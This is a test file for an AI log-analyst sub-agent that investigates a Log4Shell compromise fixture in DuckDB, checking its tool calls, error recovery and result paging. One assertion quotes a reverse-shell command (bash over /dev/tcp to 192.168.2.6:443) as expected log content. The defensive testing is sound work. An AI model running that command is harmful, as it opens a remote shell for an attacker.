import { generateText, isStepCount } from 'ai';
import type { SubAgentProgress } from 'kioku';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openLog4ShellEngine } from './__fixtures__/log4shell-database.js';
import { analystModel, parentModel, request } from './__fixtures__/scripted-log-analyst.js';
import { createLogAgent } from './create-log-agent.js';
import { defaultRunbooksDir, loadRunbooks, type Runbook } from './load-runbooks.js';
import type { LogEngine } from './log-engine.js';

let engine: LogEngine;
let close: () => Promise<void>;
let runbooks: Runbook[];

beforeAll(async () => {
  ({ engine, close } = await openLog4ShellEngine());
  runbooks = await loadRunbooks(defaultRunbooksDir());
});
afterAll(async () => {
  await close?.();
});

describe('createLogAgent', () => {
  it('runs schema, query, runbook and get_result on DuckDB, recovers from an error, and returns only its answer', async () => {
    const analyst = analystModel();
    const parent = parentModel();
    const events: SubAgentProgress[] = [];
    const logs_run = createLogAgent({
      model: analyst,
      engine,
      runbooks,
      maxRows: 10,
      onProgress: (event) => events.push(event),
    });
    const run = await generateText({
      model: parent,
      tools: { logs_run },
      prompt: 'go',
      stopWhen: isStepCount(3),
    });

    const prompts = analyst.doGenerateCalls.map((call) => JSON.stringify(call.prompt));
    expect(prompts[0]).toContain('Recovery rules');
    expect(prompts[0]).toContain(
      "service-account-commands-and-connections: A Linux server's commands and outbound connections",
    );
    expect(prompts[1]).toContain('<untrusted-data source=\\"log schema\\">');
    expect(prompts[1]).toContain('ubuntu5_auditd (50 rows');
    expect(prompts[2]).toContain('SyslogMessage VARCHAR');
    // the failing query went back to the model as a tool error it could act on
    expect(prompts[3]).toContain('Referenced column \\"cmdline\\" not found');
    expect(prompts[3]).toContain('<untrusted-data source=\\"engine error\\">');
    expect(prompts[4]).toContain('bash -i >& /dev/tcp/192.168.2.6/443 0>&1');
    expect(prompts[5]).toContain('result_id=r2; rows 1-10 of 487; has_more=true');
    expect(prompts[5]).toContain('Aggregate instead');
    expect(prompts[6]).toContain('result_id=r2; rows 4-5 of 487; has_more=true');

    const parentToolResult = JSON.stringify(parent.doGenerateCalls[1]?.prompt);
    expect(parentToolResult).toContain('decoding to bash -i');
    expect(parentToolResult).not.toContain('SyslogMessage');
    expect(run.text).toBe('The web server was compromised.');

    const calls = events.filter((event) => event.type === 'tool-call-end');
    expect(calls.map((event) => event.toolName)).toEqual([
      'schema',
      'schema',
      'query',
      'runbook',
      'query',
      'get_result',
    ]);
    expect(calls[2]?.error).toMatch(/cmdline/);
    expect(calls.filter((event) => event.error !== undefined)).toHaveLength(1);
    expect(events[0]).toEqual({ type: 'sub-agent-start', agent: 'logs_run', request });
    expect(events.at(-1)).toMatchObject({ type: 'sub-agent-end', steps: 7, stepCapReached: false });
  });
});
